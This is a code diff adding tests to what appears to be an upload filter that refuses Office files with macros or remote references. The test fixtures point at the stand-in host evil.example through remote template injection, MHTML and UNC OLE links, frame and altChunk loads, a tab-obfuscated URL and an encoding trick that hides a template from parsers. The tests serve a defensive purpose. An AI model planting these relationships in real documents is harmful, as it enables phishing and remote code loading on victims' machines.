@@ -94,10 +94,55 @@ describe('office documents with macros', () => {
       expect(await send('通知.docx', await named(rels)), rels).toMatchObject(taken);
   });
 
+  it('that a list names in other letters, by another word or for another part are refused as well', async () => {
+    const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+    const relation = (type: string, target: string) => `<Relationship Id="r1" Type="${type}" Target="${target}"/>`;
+    const list = (inner: string, encoding = 'UTF-8') =>
+      `<?xml version="1.0" encoding="${encoding}"?><Relationships>${inner}</Relationships>`;
+    const named = (rels: string | Buffer, part = 'word/_rels/document.xml.rels') =>
+      packed({ '[Content_Types].xml': types(), 'word/document.xml': '<w/>', [part]: rels });
+    const template = relation(`${office}/attachedTemplate`, 'https://evil.example/a.dotm');
+    // Half of each of these letters is a sign of XML: read byte by byte, the template stands within an instruction.
+    const hidden = `<!--\u2d2d\u203e\u3f3cx --> ${template} <!--\u3e3f-->`;
+    for (const wide of [`\ufeff${list(hidden, 'UTF-16')}`, list(hidden, 'UTF-16')]) {
+      const little = Buffer.from(wide, 'utf16le');
+      expect(await send('通知.docx', await named(little))).toMatchObject(refused);
+      expect(await send('通知.docx', await named(Buffer.from(little).swap16()))).toMatchObject(refused);
+    }
+    for (const rels of [
+      relation(`${office}/oleObject`, 'mhtml:https://evil.example/a.html!x-usc:https://evil.example/a.html'),
+      relation(`${office}/oleObject`, '\\\\evil.example\\a'),
+      relation(`${office}/frame`, 'http://evil.example/'),
+      relation(`${office}/aFChunk`, 'http://evil.example/a.rtf'),
+      relation(`${office}/attachedTemplate`, 'ht&#9;tp://evil.example/a.dotm'),
+      relation('http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'a.bin'),
+    ]) {
+      expect(await send('通知.docx', await named(list(rels))), rels).toMatchObject(refused);
+      const sheet = await named(list(rels), 'xl/worksheets/_rels/sheet1.xml.rels');
+      expect(await send('名单.xlsx', sheet), rels).toMatchObject(refused);
+    }
+    const broken = { status: 400, message: expect.stringContaining('打不开') };
+    expect(await send('通知.docx', await named(list('', 'UTF-7')))).toMatchObject(broken);
+    const pieces = {
+      'word/_rels/document.xml.rels/[0].piece': '<R>',
+      'word/_rels/document.xml.rels/[1].last.piece': '',
+    };
+    expect(await send('通知.docx', await packed({ '[Content_Types].xml': types(), ...pieces }))).toMatchObject(broken);
+    for (const rels of [
+      relation(`${office}/oleObject`, 'embeddings/oleObject1.bin'),
+      relation(`${office}/oleObject`, 'file:///D:\\表 格\\a.xlsx'),
+      relation(`${office}/image`, 'https://good.example/a.png'),
+      relation(`${office}/externalLinkPath`, 'https://good.example/a.xlsx'),
+    ])
+      expect(await send('通知.docx', await named(list(rels))), rels).toMatchObject(taken);
+  });
+
   it('of older programs as well, at any place of the file', async () => {
     for (const before of [600, 64 * 1024 - 512 - 60, 300_000])
       expect(await send('通知.doc', older('_VBA_PROJECT', before)), String(before)).toMatchObject(refused);
     expect(await send('名单.xls', older('_VBA_PROJECT_CUR'))).toMatchObject(refused);
+    // Locked by the password that programs try by themselves, it is opened with its program, and nobody can look.
+    expect(await send('名单.xls', older('EncryptedPackage'))).toMatchObject(refused);
     expect(await send('通知.doc', older('WordDocument'))).toMatchObject(taken);
     // A text that speaks of it is none.
     const words = Buffer.concat([bytesOf('container'), Buffer.from('_VBA_PROJECT 是什么'.repeat(40), 'utf16le')]);
